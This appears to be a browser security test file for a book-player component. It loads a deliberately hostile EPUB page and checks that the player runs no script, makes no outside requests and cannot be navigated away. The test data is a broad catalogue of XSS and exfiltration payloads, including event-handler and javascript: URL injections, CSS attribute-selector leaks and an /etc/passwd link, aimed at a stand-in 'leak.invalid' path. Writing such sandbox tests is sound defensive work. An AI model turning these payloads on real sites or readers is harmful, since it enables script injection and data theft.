import { aTimeout, expect } from '@open-wc/testing';
import { narratedBook } from '../../../../book/src/testing/narrated-book.ts';
import { warningsOf } from '../../../../book/src/testing/warnings.ts';
import { allOf, framesOf, openPlayer, pageOf, press, settled, shownIn } from '../../testing/player.ts';
import { until } from '../../testing/until.ts';
import type { BookPlayer } from './book-player.ts';

/**
 * What the book tries to reach. It is named as another host would be, with scheme and host, but it is our own server: only
 * of its own origin does the browser tell a request that was made (it has a status) from one that was stopped.
 */
const LEAK = `${location.origin}/leak.invalid`;
const RUN = "top.ran=(top.ran||0)+1;top.document.title='taken'";
const DATA_SCRIPT = `data:text/javascript,${encodeURIComponent(RUN)}`;

/** Requests that have left for there, in the page of the host and in every frame. */
const leaks = (...frames: HTMLIFrameElement[]) =>
  [window, ...frames.map(({ contentWindow }) => contentWindow)].flatMap((each) => {
    const entries = each?.performance.getEntriesByType('resource') ?? [];
    // Entries of this type are resource timings (Resource Timing §4.1).
    return (entries as PerformanceResourceTiming[]).filter(
      ({ name, responseStatus, requestStart }) =>
        name.includes('leak.invalid') && (responseStatus > 0 || requestStart > 0),
    );
  });

const SCRIPTS = `
  <script>${RUN}</script>
  <script src="${DATA_SCRIPT}"></script>
  <script src="run.js"></script>
  <script type="module">${RUN}</script>
  <img src="nothing.png" onerror="${RUN}"/>
  <svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script>
    <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>
    <animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>
  <iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>
  <iframe src="javascript:${RUN}"></iframe>
  <object data="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;"></object>
  <embed src="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;"/>
  <details open="" ontoggle="${RUN}"><summary>s</summary></details>
  <input autofocus="" onfocus="${RUN}"/>`;

const REMOTE = `
  <img src="${LEAK}/img.png"/><img srcset="${LEAK}/srcset.png 1x"/>
  <picture><source srcset="${LEAK}/picture.png"/><img src="//leak.invalid/relative.png"/></picture>
  <video src="${LEAK}/v.mp4" poster="${LEAK}/poster.png" autoplay=""></video>
  <audio src="${LEAK}/a.mp3" autoplay=""></audio>
  <video autoplay=""><source src="${LEAK}/source.mp4"/><track src="${LEAK}/t.vtt" default=""/></video>
  <object data="${LEAK}/object"></object><embed src="${LEAK}/embed"/><iframe src="${LEAK}/frame"></iframe>
  <input type="image" src="${LEAK}/input.png"/>
  <table background="${LEAK}/table.png"><tr><td>t</td></tr></table>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">
    <image href="${LEAK}/svg.png" width="9" height="9"/><image xlink:href="${LEAK}/xlink.png" width="9" height="9"/>
    <use href="${LEAK}/use.svg#a"/><filter id="f"><feImage href="${LEAK}/fe.png"/></filter>
    <rect filter="url(${LEAK}/filter.svg#f)" mask="url(${LEAK}/mask.svg#m)" fill="url(${LEAK}/fill.svg#p)" width="9" height="9"/>
    <image width="9" height="9"><set attributeName="href" to="${LEAK}/set.png"/></image></svg>
  <p style="background:url(${LEAK}/style.png)">p</p>
  <p style="background:u\\72l(${LEAK}/escaped.png)">p</p>
  <p style="background:image-set('${LEAK}/imageset.png' 1x)">p</p>
  <p class="font">font</p><p class="bg">bg</p><input class="exfil" value="secret"/>
  <a ping="${LEAK}/ping" href="#s1" id="ping">ping</a>`;

const HEAD = `
  <base href="${LEAK}/base/"/>
  <meta http-equiv="refresh" content="0;url=${LEAK}/refresh"/>
  <meta http-equiv="Link" content="&lt;${LEAK}/metalink.css&gt;; rel=stylesheet"/>
  <link rel="stylesheet" href="${LEAK}/link.css"/>
  <link rel="prefetch" href="${LEAK}/prefetch"/><link rel="preload" as="image" href="${LEAK}/preload.png"/>
  <link rel="dns-prefetch" href="${LEAK}"/><link rel="preconnect" href="${LEAK}"/>
  <link rel="icon" href="${LEAK}/icon.png"/><link rel="manifest" href="${LEAK}/manifest.json"/>
  <link rel="stylesheet" href="local.css"/>
  <style>@import url(${LEAK}/import.css); @import "${LEAK}/import2.css" screen; @import/**/url(${LEAK}/import3.css);
    @\\69mport url(${LEAK}/import4.css);
    @font-face { font-family: leaky; src: url(${LEAK}/font.woff2) }
    .font { font-family: leaky } .bg { background: url(${LEAK}/bg.png); cursor: url(${LEAK}/cursor.png), auto }
    .bg::before { content: url(${LEAK}/content.png) } li { list-style: url(${LEAK}/list.png) }
    input[value^="s"] { background: url(${LEAK}/exfil?s) }
    p { border-image: url("${LEAK}/border.png") 1; mask-image: url('${LEAK}/maskimage.png') }</style>`;

const LINKS = `
  <a id="top" href="${LEAK}/top" target="_top">top</a><a id="blank" href="${LEAK}/blank" target="_blank">blank</a>
  <a id="js" href="javascript:${RUN}">js</a><a id="tab" href="java&#9;script:${RUN}">js</a>
  <a id="data" href="data:text/html,x" target="_top">data</a><a id="file" href="file:///etc/passwd">file</a>
  <form id="form" action="${LEAK}/form" method="post" target="_top"><input name="a" value="b"/><button id="send">send</button></form>
  <svg xmlns="http://www.w3.org/2000/svg"><a id="svg" href="javascript:${RUN}"><text y="9">svg</text></a></svg>`;

const FILES = {
  'EPUB/run.js': RUN,
  'EPUB/local.css': `@import url(${LEAK}/nested.css); body { background: url(${LEAK}/local.png) }`,
};

const CONTROL = `<?xml-stylesheet href="${LEAK}/pi.css"?><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="${LEAK}/control.png"/></body></html>`;

/** Asks for two things in an ordinary frame, until both are seen: what was asked for before has been seen then too. */
const untilSeen = async () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  frame.src = URL.createObjectURL(new Blob([CONTROL], { type: 'application/xhtml+xml' }));
  await until(() => leaks(frame).length >= 2, 'both requests are seen');
  URL.revokeObjectURL(frame.src);
  frame.remove();
};

/** Opens a hostile page with an innocent one behind it and gives it time to do its worst. */
const openHostile = async (more: string, head = '', files: Record<string, string> = FILES) => {
  let player: BookPlayer | undefined;
  await warningsOf(async () => {
    const book = await narratedBook(
      [{ sentences: ['Look, a page.'], more, head }, { sentences: ['The next page.'] }],
      { files },
    );
    player = await openPlayer(book);
    await untilSeen();
  });
  if (!player) throw new Error('The book did not open.');
  return player;
};

describe('A hostile book in <book-player>', () => {
  const { title } = document;
  const { href } = location;

  /** The text shows, no script ran, the page of the host is as it was, and nothing was asked of another host. */
  const expectHarmless = (player: BookPlayer) => {
    expect(pageOf(player).getElementById('s1')?.textContent).to.equal('Look, a page.');
    expect(window, 'a script ran').to.not.have.property('ran');
    expect(document.title).to.equal(title);
    expect(location.href).to.equal(href);
    const frames = framesOf(player);
    for (const frame of frames) expect(frame.contentWindow?.location.protocol).to.equal('about:');
    expect(leaks(...frames).map(({ name }) => name)).to.deep.equal([]);
  };

  it('would be seen: a request from an ordinary frame is in its timeline', async () => {
    await untilSeen();
  });

  it('runs no script', async () => {
    expectHarmless(await openHostile(SCRIPTS));
  });

  it('asks nothing of another host by its elements', async () => {
    expectHarmless(await openHostile(REMOTE));
  });

  it('asks nothing of another host by its head and its styles', async () => {
    expectHarmless(await openHostile(`${REMOTE}<ul><li>l</li></ul>`, HEAD));
  });

  it('asks nothing of another host by processing instructions', async () => {
    const page = `<?xml version="1.0"?><?xml-stylesheet href="${LEAK}/pi.css"?><?xml-stylesheet type="text/xsl" href="${LEAK}/pi.xsl"?>
      <html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p id="s1">Look, a page.</p></body></html>`;
    expectHarmless(await openHostile('', '', { 'EPUB/p1.xhtml': page }));
  });

  it('asks nothing of another host by a transformation that it brings along', async () => {
    const page = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>
      <html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
      <xsl:template match="/"><html><body><img src="${LEAK}/xsl.png"/><script>${RUN}</script></body></html></xsl:template></xsl:stylesheet></head>
      <body><p id="s1">Look, a page.</p></body></html>`;
    expectHarmless(await openHostile('', '', { 'EPUB/p1.xhtml': page }));
  });

  for (const id of ['top', 'blank', 'js', 'tab', 'data', 'file', 'svg', 'send']) {
    it(`does not leave by a press on ${id}`, async () => {
      const player = await openHostile(LINKS);
      const target = pageOf(player).getElementById(id);
      target?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      target?.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }));
      await aTimeout(100);
      await settled(player);
      expect(allOf(player, 'dialog'), 'http links ask first').to.have.length(
        id === 'top' || id === 'blank' ? 1 : 0,
      );
      expectHarmless(player);
    });
  }

  it('does not leave by a form that sends itself', async () => {
    const player = await openHostile(LINKS);
    (pageOf(player).getElementById('form') as HTMLFormElement).submit();
    await untilSeen();
    expectHarmless(player);
  });

  it('does not keep the reader from the next page', async () => {
    const player = await openHostile(SCRIPTS + REMOTE + LINKS, HEAD);
    await press(player, 'Next page');
    await until(() => shownIn(player) === 'p2.xhtml');
    expect(pageOf(player).body.textContent).to.equal('The next page.');
  });

  it('is not obeyed when it talks: messages to the host page are ignored', async () => {
    const player = await openHostile('<p/>');
    for (const data of [{ type: 'book-close' }, 'book-close', { type: 'next' }, null])
      window.postMessage(data, '*');
    await aTimeout(50);
    expect(shownIn(player)).to.equal('p1.xhtml');
    expectHarmless(player);
  });
});
